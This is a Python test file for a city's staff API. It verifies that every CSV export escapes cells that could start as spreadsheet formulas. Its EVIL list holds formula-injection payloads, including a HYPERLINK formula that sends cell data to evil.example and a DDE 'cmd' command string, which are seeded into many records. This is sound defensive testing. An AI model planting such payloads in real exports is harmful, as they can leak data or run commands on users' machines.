"""Every CSV the staff API exports is safe to open in Excel: text that citizens, staff or an attacker
typed (a failed login id, a facility name, a question) never starts a cell as a formula. The test finds
the exports in the OpenAPI document, so a new export without a case here fails."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import date, timedelta

from admin_api.app import PREFIX
from bot.appkeys import CLOCK, DATABASE
from civic.attributes import forms
from civic.booking.services import BookingService
from civic.citizens.models import Citizen
from civic.clock import tokyo
from civic.deliveries.models import Delivery, DeliveryRun
from civic.disaster import safety
from civic.reports.services import submit_report
from civic.staff.services import create_staff
from civic.talklog.models import TalkEntry
from richmenus.models import RichMenuTap
from tests.booking.town import citizen

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1+1)*cmd|x",
        "＝HYPERLINK(\"x\")", "＋1＋cmd", "－1＋cmd", "＠SUM(1)", "\t=1+1", "\r=1+1"]
#: Query parameters each export needs; every CSV route must be listed.
PARAMS: dict[str, dict[str, str]] = {
    "/stats/daily.csv": {}, "/stats/usage.csv": {"by": "flow"}, "/stats/unanswered.csv": {},
    "/stats/richmenu-taps.csv": {}, "/operation-logs.csv": {}, "/talk-logs.csv": {}, "/facilities.csv": {},
    "/facility-units.csv": {}, "/bookings/list.csv": {"month": "2026-12"},
    "/bookings/counts.csv": {"fiscal_year": "2026", "group_by": "purpose"},
    "/deliveries/history.csv": {}, "/deliveries/import/template.csv": {}, "/forms/{form_id}/answers.csv": {},
    "/reports.csv": {}, "/stats/monthly.csv": {"month": "{month}"},
    "/safety-checks/{check_id}/answers.csv": {}, "/shelters/import/template.csv": {}, "/faq/export": {},
}
#: CSV routes whose cells are written as they are, and why.
AS_WRITTEN = {"/garbage/export": "the 5374 files as towns publish them, read by 5374 apps: kept as the town wrote them"}
DANGEROUS = tuple("=+-@\t\r＝＋－＠")


async def test_no_export_lets_a_cell_start_a_formula(service) -> None:
    app, client, town = service.app, service.client, service.town
    db, clock = app[DATABASE], app[CLOCK]
    now = clock.now()
    await create_staff(db, clock, "kanri", "staff-pass-2026", "管理", "admin")
    token = (await (await client.post(f"{PREFIX}/auth/login", json={"login": "kanri", "password": "staff-pass-2026"})
                    ).json())["token"]
    auth = {"Authorization": f"Bearer {token}"}
    for n, evil in enumerate(EVIL):  # typed by an attacker at the login page: lands in the operation log
        await client.post(f"{PREFIX}/auth/login", json={"login": evil[:60], "password": "x"},
                          headers={"X-Forwarded-For": f"198.51.100.{n}"})
    facility = town.facilities["gym"]
    r = await client.patch(f"{PREFIX}/facilities/{facility}", headers=auth, json={"name": EVIL[0], "kana": EVIL[4]})
    assert r.status == 200
    units = await (await client.get(f"{PREFIX}/facilities/{facility}", headers=auth)).json()
    r = await client.patch(f"{PREFIX}/units/{units['units'][0]['id']}", headers=auth, json={"name": EVIL[5]})
    for evil in EVIL[:3]:
        r = await client.post(f"{PREFIX}/facilities/{facility}/purposes", headers=auth, json={"name": evil})
        assert r.status == 201, await r.text()
    svc = BookingService(db, clock)
    for n, evil in enumerate(EVIL[:3]):
        made = await svc.reserve(town.request("gym.half-a", day=date(2026, 12, 5) + timedelta(days=7 * n),
                                              purpose=evil, activity=EVIL[-1 - n]),
                                 citizen(f"U{n}", name=EVIL[3 + n], phone=EVIL[6]))
        assert getattr(made, "number", None), made
    async with db.write() as s:
        for n, evil in enumerate(EVIL):
            s.add(TalkEntry(channel_user_id=f"U{n}", direction="in", kind="text", text=evil, intent="nlu_fallback",
                            flow=evil, at=now - timedelta(minutes=n + 1)))
            s.add(RichMenuTap(at=now - timedelta(minutes=n + 1), channel_user_id=f"U{n}", data=evil, label=evil[:40]))
        delivery = Delivery(title=EVIL[1], messages=json.dumps([{"type": "text", "text": EVIL[2]}]), target="all",
                            timing="now", status="finished", created_by=EVIL[3], created_at=now, updated_at=now)
        s.add(delivery)
        await s.flush()
        s.add(DeliveryRun(delivery_id=delivery.id, due_at=now, status="done", channel="production",
                          key_seed=str(uuid.uuid4()), targeted=3, succeeded=3, error=EVIL[4], created_at=now))
        await submit_report(s, category="road_surface", description=EVIL[0], latitude=35.0, longitude=135.0,
                            address=EVIL[2], reporter="U0", photo_id=None, now=now)
    # a survey whose free-text answers (what citizens typed) reach the answers CSV
    r = await client.post(f"{PREFIX}/attributes", headers=auth, json={"key": "opinion", "label": "ご意見", "kind": "text"})
    assert r.status == 201, await r.text()
    r = await client.post(f"{PREFIX}/forms", headers=auth, json={"key": "survey", "title": EVIL[1],
                                                                  "items": [{"attribute": "opinion"}]})
    form_id = (await r.json())["id"]
    async with db.write() as s:
        form = await forms.get_form(s, form_id)
        for n, evil in enumerate(EVIL[:4]):
            person = Citizen(channel_user_id=f"Usurvey{n}", display_name=evil, created_at=now)
            s.add(person)
            await s.flush()
            await forms.submit(s, now, form, person.id or 0, {"opinion": evil.strip()}, via="liff")

    # 安否確認 answers: where citizens are and what they wrote (issue #22)
    r = await client.post(f"{PREFIX}/faq/entries", headers=auth, json={
        "question": EVIL[0], "alternatives": [EVIL[2]], "answer": EVIL[1], "category": EVIL[3], "status": "draft"})
    assert r.status == 201, await r.text()
    async with db.write() as s:
        check = await safety.create_check(s, now, title=EVIL[0], question=EVIL[1])
        for n, evil in enumerate(EVIL[:4]):
            person = Citizen(channel_user_id=f"Usafety{n}", display_name=evil, created_at=now)
            s.add(person)
            await s.flush()
            await safety.record_answer(s, now, check.id or 0, person.id or 0, "need_help")
            await safety.add_details(s, now, check.id or 0, person.id or 0, place=evil, note=EVIL[-1 - n])

    document = await (await client.get(f"{PREFIX}/openapi.json")).json()
    exports = {path.removeprefix(PREFIX) for path, ops in document["paths"].items()
               for op in ops.values() if "text/csv" in op.get("responses", {}).get("200", {}).get("content", {})}
    assert exports == set(PARAMS) | set(AS_WRITTEN), exports ^ (set(PARAMS) | set(AS_WRITTEN))
    seen_evil = set()
    for path, params in PARAMS.items():
        params = {k: f"{tokyo(now):%Y-%m}" if v == "{month}" else v for k, v in params.items()}
        r = await client.get(PREFIX + path.format(form_id=form_id, check_id=check.id), params=params, headers=auth)
        assert r.status == 200, (path, await r.text())
        text = (await r.read()).decode("utf-8")
        assert text.startswith("\ufeff"), path
        for row in csv.reader(io.StringIO(text[1:], newline="")):
            for cell in row:
                assert not cell.startswith(DANGEROUS) or _number(cell), (path, cell)
                if cell[:1] == "'" and cell[1:].startswith(DANGEROUS):
                    seen_evil.add(path)
    # the seeds reached every export that shows text someone typed (the rest hold numbers or a template)
    assert seen_evil >= set(PARAMS) - {"/stats/daily.csv", "/deliveries/import/template.csv",
                                       "/shelters/import/template.csv"}, \
        set(PARAMS) - seen_evil


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False
